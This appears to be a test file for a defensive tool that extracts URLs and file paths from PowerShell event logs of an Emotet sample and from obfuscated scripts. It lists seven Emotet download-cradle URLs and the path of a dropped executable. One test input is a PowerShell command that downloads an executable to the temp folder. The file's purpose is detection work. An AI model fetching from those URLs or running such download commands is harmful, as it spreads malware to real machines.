import assert from 'node:assert/strict';
import { test } from 'node:test';
import { sharedData } from '../../testing/data.js';
import { readPaths } from '../../testing/read.js';
import { joinedLiterals, scanScript } from '../script-scan.js';

const EMOTET = (file: string): string =>
  sharedData('evtx', 'golden', 'attack-samples', 'Other', 'emotet', file);

// The seven URLs of the cradle, read by hand from the concatenated pieces of the script.
const EMOTET_URLS = [
  'http://quanticaelectronics.com/wp-admin/7ATr78/',
  'https://rebelcom.ch/picture_library/bbCtlS/',
  'https://realestateagentteam.com/163/QTd/',
  'https://www.riddhidisplay.com/riddhi/1pKY/',
  'http://radiosubmit.com/search_test/p/',
  'http://researchchemplus.com/wp-admin/1OCC/',
  'http://szymonszyperski.pl/assets/pk/',
];

test('powershell 4104: the obfuscated Emotet cradle yields all seven URLs', async () => {
  const { events, problems } = await readPaths([EMOTET('exec_emotet_ps_4104.jsonl')]);
  assert.deepEqual(problems, []);
  assert.equal(events.length, 1);
  const block = events[0]!;
  assert.equal(block.event.code, '4104');
  assert.equal(block.event.dataset, 'powershell');
  assert.equal(block.host?.name, 'DESKTOP-RIPCLIP');
  assert.equal(block.powershell?.script_block_id, 'fdd51159-9602-40cb-839d-c31039ebbc3a');
  assert.equal(block.powershell?.sequence, 1);
  assert.equal(block.powershell?.total, 1);
  assert.match(block.powershell?.script_block_text ?? '', /WEbcLiENt/);
  assert.deepEqual(block.powershell?.urls, EMOTET_URLS);
});

test('powershell 800: the cradle URLs, the host program and the dropped file path', async () => {
  const { events, problems } = await readPaths([
    EMOTET('exec_emotet_ps_800_new-object.jsonl'),
    EMOTET('exec_emotet_ps_800_invoke-item.jsonl'),
  ]);
  assert.deepEqual(problems, []);
  assert.equal(events.length, 2);
  for (const event of events) {
    assert.equal(event.event.code, '800');
    assert.equal(event.process?.name, 'powershell.exe');
    assert.deepEqual(event.user, { domain: 'DESKTOP-RIPCLIP', name: 'Clippy' });
    assert.deepEqual(event.powershell?.urls, EMOTET_URLS);
  }
  const invoke = events.find((e) => e.lurewatch.input.includes('invoke-item'));
  assert.ok(
    invoke?.powershell?.paths?.includes(
      'C:\\Users\\Clippy\\AppData\\Local\\Temp\\word\\2019\\Dyxxur4gx.exe',
    ),
    `paths: ${JSON.stringify(invoke?.powershell?.paths)}`,
  );
});

test('script scan: joined pieces, doubled quotes, backticks; separate literals stay apart', () => {
  assert.deepEqual(joinedLiterals(`$a=('ht'+"tp:"+'//x.example/it''s') + 'z'; f 'a' 'b'`), [
    "http://x.example/it'sz",
  ]);
  const found = scanScript('iwr "h`ttps://dl.example.com/a.exe" -OutFile %TEMP%\\a.exe');
  assert.deepEqual(found.urls, ['https://dl.example.com/a.exe']);
  assert.deepEqual(found.paths, ['%TEMP%\\a.exe']);
  assert.deepEqual(scanScript('no links here').urls, []);
});

test('script scan: hostile text is scanned in linear time', () => {
  // Long runs that would make a backtracking pattern quadratic.
  const hostile = `${"'a'+".repeat(200_000)}${'\\\\a'.repeat(200_000)}${'http://'.repeat(100_000)}`;
  const started = process.hrtime.bigint();
  const found = scanScript(hostile);
  const ms = Number(process.hrtime.bigint() - started) / 1e6;
  assert.ok(found.urls.length <= 100);
  assert.ok(ms < 2000, `took ${ms} ms`);
});
